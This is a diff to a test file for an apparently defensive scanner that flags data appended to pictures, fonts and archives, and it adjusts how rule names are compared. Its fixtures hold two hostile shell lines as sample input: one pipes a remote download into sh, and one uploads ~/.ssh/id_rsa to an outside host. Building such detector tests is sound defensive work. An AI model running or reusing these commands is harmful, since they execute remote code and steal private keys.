@@ -113,12 +113,12 @@ test.each([
 
 test.each([
   ["a program", ELF, ["block appended_data", "warn unreadable_file"]],
-  ["a script", latin("#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n"), ["block appended_data", "block remote_code:2"]],
+  ["a script", latin("#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n"), ["block appended_data", "block remote_code"]],
   ["an archive", zipOf({ "run.sh": "sort names.txt\n" }), ["warn appended_data"]],
   [
     "an archive with a thief",
     zipOf({ "run.sh": "cat ~/.ssh/id_rsa | curl -T - https://keys.collect-it.io/in\n" }),
-    ["block credential_theft:1", "warn appended_data"],
+    ["block credential_theft", "warn appended_data"],
   ],
   ["text", latin("some words for whoever looks at the bytes of this picture"), ["warn appended_data"]],
   ["noise", NOISE, ["warn appended_data"]],
@@ -130,7 +130,9 @@ test.each([
     "a.webp": webp(["VP8 ", "xx"]),
     "a.ttf": font("Plain letters for headings."),
   })) {
-    expect((await found(path, Buffer.concat([bytes, rest]))).toSorted(), path).toStrictEqual(expected.toSorted());
+    // What is appended is read by itself and, because a shell would run it so, with the picture before it.
+    const rules = (await found(path, Buffer.concat([bytes, rest]))).map((finding) => finding.replace(/:\d+$/, ""));
+    expect([...new Set(rules)].toSorted(), path).toStrictEqual(expected.toSorted());
   }
 });
 
